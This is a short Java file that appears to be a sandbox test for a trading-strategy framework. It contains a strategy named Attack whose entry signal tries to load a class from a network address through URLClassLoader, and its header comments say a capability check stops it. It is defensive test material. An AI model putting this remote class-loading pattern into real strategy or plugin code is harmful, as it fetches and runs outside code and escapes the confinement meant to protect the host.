// stopped-by: capability
// category: class machinery
// against: host
import sorte.strategy.*;

/// Loads classes from wherever an address points.
public final class Attack extends Strategy<Attack.Parameters> {

  public record Parameters(
      @Bars(value = 20, min = 2, max = 200) int period) {}

  private final Sma average = sma(p.period());

  public Attack(Market market, Parameters p) {
    super(market, p);
  }

  @Override
  public boolean enterLong() {
    try {
      java.net.URL where = java.net.URI.create("http://127.0.0.1:4747/").toURL();
      return new java.net.URLClassLoader(new java.net.URL[] {where}).loadClass("Far") != null;
    } catch (Exception e) {
      return false;
    }
  }

  @Override
  public boolean exitLong() {
    return close.crossesBelow(average);
  }

  @Override
  public Terms terms() {
    return Terms.allIn().stopLoss(0.03);
  }
}
